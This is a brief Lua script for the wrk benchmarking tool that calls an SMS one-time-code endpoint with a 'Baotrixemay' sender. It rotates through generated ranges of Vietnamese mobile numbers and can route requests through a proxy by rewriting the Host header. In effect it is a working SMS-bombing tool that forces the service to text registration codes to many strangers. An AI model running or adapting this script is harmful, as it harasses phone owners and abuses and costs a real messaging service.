-- GENCODE, another phone in each request. Arguments: how many lanes (0: `default`), the minutes that a code lives,
-- scheme and host for a proxy, and after how many phones the first has its turn again.
dofile("common.lua")
local path = "/MainService.svc/json/SendMessageAutoGenCode_V4_get?Phone=09%08d&%s&TimeAlive=%d&NumCharOfCode=6"
  .. "&Brandname=Baotrixemay&Type=2"
  .. "&message=%%7BOTP%%7D%%20la%%20ma%%20xac%%20minh%%20dang%%20ky%%20Baotrixemay%%20cua%%20ban&IsNumber=1"
function request()
  local n = another()
  local front = arguments[5] or ""
  if front ~= "" then wrk.headers["Host"] = front:match("//(.*)") end
  return wrk.format("GET", front .. string.format(path, n % (tonumber(arguments[6]) or 100000000), credentials(n), tonumber(arguments[4]) or 10))
end
